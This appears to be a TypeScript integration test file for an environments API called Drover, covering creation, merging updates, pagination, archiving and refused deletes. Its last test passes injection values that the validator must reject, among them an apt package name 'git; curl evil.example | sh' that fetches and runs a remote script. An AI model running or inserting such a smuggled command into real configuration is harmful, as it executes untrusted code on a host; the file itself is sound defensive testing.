// Environments through the official SDK against Drover's API: create (defaults, packages,
// networking), retrieve, update merging as the service documents, list past one page, archive,
// delete, and a delete refused while a session names the environment.
import Anthropic from '@anthropic-ai/sdk';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { apiRig, type ApiRig } from '#test/support/api-rig';

let rig: ApiRig;

beforeAll(async () => {
  rig = await apiRig();
});

afterAll(async () => {
  await rig.close();
});

function messageOf(error: unknown): string {
  const body = (error as InstanceType<typeof Anthropic.APIError>).error as { error?: { message?: string } } | undefined;
  return body?.error?.message ?? '';
}

async function refused(promise: Promise<unknown>, kind: new (...args: never[]) => Error = Anthropic.BadRequestError): Promise<string> {
  const error = await promise.then(
    () => null,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(kind);
  return messageOf(error);
}

describe('environments', () => {
  it('creates a cloud environment with defaults, and one with packages and limited networking', async () => {
    const plain = await rig.client.beta.environments.create({ name: 'box' });
    expect(plain).toMatchObject({
      type: 'environment',
      name: 'box',
      description: null,
      metadata: {},
      scope: 'organization',
      archived_at: null,
      config: { type: 'cloud', networking: { type: 'unrestricted' }, packages: { apt: [], cargo: [], gem: [], go: [], npm: [], pip: [] } },
    });
    expect(plain.id).toMatch(/^env_[0-9A-Za-z]{24}$/);
    expect(await rig.client.beta.environments.retrieve(plain.id)).toEqual(plain);

    const rich = await rig.client.beta.environments.create({
      name: 'python',
      description: 'data work',
      metadata: { 'drover.image': 'python:3.12-slim' },
      config: {
        type: 'cloud',
        networking: { type: 'limited', allowed_hosts: ['pypi.org', '*.pythonhosted.org'], allow_package_managers: true },
        packages: { pip: ['numpy==2.1.0', 'pandas'], apt: ['git'] },
      },
    });
    expect(rich.config).toEqual({
      type: 'cloud',
      networking: {
        type: 'limited',
        allowed_hosts: ['pypi.org', '*.pythonhosted.org'],
        allow_mcp_servers: false,
        allow_package_managers: true,
      },
      packages: { type: 'packages', apt: ['git'], cargo: [], gem: [], go: [], npm: [], pip: ['numpy==2.1.0', 'pandas'] },
    });
    expect(rich.metadata).toEqual({ 'drover.image': 'python:3.12-slim' });
  });

  it('updates by merging: omitted fields kept, metadata patched, networking subfields kept', async () => {
    const environment = await rig.client.beta.environments.create({
      name: 'merge',
      metadata: { keep: 'yes', drop: 'x', blank: 'y' },
      config: {
        type: 'cloud',
        networking: { type: 'limited', allowed_hosts: ['a.example.test'], allow_mcp_servers: true, allow_package_managers: true },
        packages: { npm: ['left-pad'] },
      },
    });
    const updated = await rig.client.beta.environments.update(environment.id, {
      name: 'merged',
      metadata: { drop: null, blank: '', added: 'z' },
      config: { type: 'cloud', networking: { type: 'limited', allowed_hosts: ['b.example.test'] }, packages: { apt: ['curl'] } },
    });
    expect(updated).toMatchObject({
      id: environment.id,
      name: 'merged',
      description: null,
      metadata: { keep: 'yes', added: 'z' },
      config: {
        networking: { type: 'limited', allowed_hosts: ['b.example.test'], allow_mcp_servers: true, allow_package_managers: true },
        packages: { npm: ['left-pad'], apt: ['curl'] },
      },
      created_at: environment.created_at,
    });
    expect(Object.keys(updated.metadata).sort()).toEqual(['added', 'keep']);
    const described = await rig.client.beta.environments.update(environment.id, { description: 'now described' });
    expect(described).toMatchObject({ name: 'merged', description: 'now described', config: updated.config });
    expect(await rig.client.beta.environments.retrieve(environment.id)).toEqual(described);
  });

  it('lists newest first past one page; archived only with include_archived; an archived one cannot change', async () => {
    const made: string[] = [];
    for (let index = 0; index < 5; index++) made.push((await rig.client.beta.environments.create({ name: `env-${index}` })).id);
    const listed: string[] = [];
    for await (const environment of rig.client.beta.environments.list({ limit: 2 })) listed.push(environment.id);
    expect(listed.slice(0, 5)).toEqual([...made].reverse());
    expect(new Set(listed).size).toBe(listed.length);

    const target = made[1] ?? '';
    const archived = await rig.client.beta.environments.archive(target);
    expect(archived.archived_at).toEqual(expect.any(String));
    const active: string[] = [];
    for await (const environment of rig.client.beta.environments.list({ limit: 2 })) active.push(environment.id);
    expect(active).not.toContain(target);
    const withArchived: string[] = [];
    for await (const environment of rig.client.beta.environments.list({ limit: 2, include_archived: true }))
      withArchived.push(environment.id);
    expect(withArchived).toContain(target);
    expect(await refused(rig.client.beta.environments.update(target, { name: 'again' }))).toContain('archived');
    expect((await rig.client.beta.environments.retrieve(target)).name).toBe('env-1');
  });

  it('deletes; a delete is refused (409, naming the session) while a session names the environment', async () => {
    const environment = await rig.client.beta.environments.create({ name: 'doomed' });
    const deleted = await rig.client.beta.environments.delete(environment.id);
    expect(deleted).toEqual({ id: environment.id, type: 'environment_deleted' });
    await expect(rig.client.beta.environments.retrieve(environment.id)).rejects.toBeInstanceOf(Anthropic.NotFoundError);
    await expect(rig.client.beta.environments.delete(environment.id)).rejects.toBeInstanceOf(Anthropic.NotFoundError);

    const used = await rig.client.beta.environments.create({ name: 'in use' });
    // A session made through the API names its environment (its record's parent) until it is deleted.
    const agent = await rig.client.beta.agents.create({ name: 'user', model: 'claude-sonnet-4-6' });
    const session = await rig.client.beta.sessions.create({ agent: agent.id, environment_id: used.id });
    const message = await refused(rig.client.beta.environments.delete(used.id), Anthropic.ConflictError);
    expect(message).toContain(session.id);
    expect(message).toContain('archive the environment instead');
    expect((await rig.client.beta.environments.retrieve(used.id)).id).toBe(used.id);
    await rig.client.beta.sessions.delete(session.id);
    expect(await rig.client.beta.environments.delete(used.id)).toEqual({ id: used.id, type: 'environment_deleted' });
  });

  it('refuses in words what Drover cannot do, and stores nothing', async () => {
    // self_hosted is made (work.integration.test.ts); changing a cloud environment to it is not.
    const cloud = await rig.client.beta.environments.create({ name: 'c' });
    const before = rig.managed.list('environment').length;
    expect(await refused(rig.client.beta.environments.update(cloud.id, { config: { type: 'self_hosted' } }))).toContain('self_hosted');
    expect(
      await refused(
        rig.client.beta.environments.create({ name: 'inj', config: { type: 'cloud', packages: { apt: ['git; curl evil.example | sh'] } } }),
      ),
    ).toContain('no spaces or quotes');
    expect(
      await refused(rig.client.beta.environments.create({ name: 'opt', config: { type: 'cloud', packages: { pip: ['--index-url=x'] } } })),
    ).toContain('cannot start with "-"');
    expect(
      await refused(
        rig.client.beta.environments.create({
          name: 'np',
          config: { type: 'cloud', networking: { type: 'limited', allowed_hosts: [] }, packages: { npm: ['x'] } },
        }),
      ),
    ).toContain('allow_package_managers');
    expect(rig.managed.list('environment')).toHaveLength(before);
  });
});
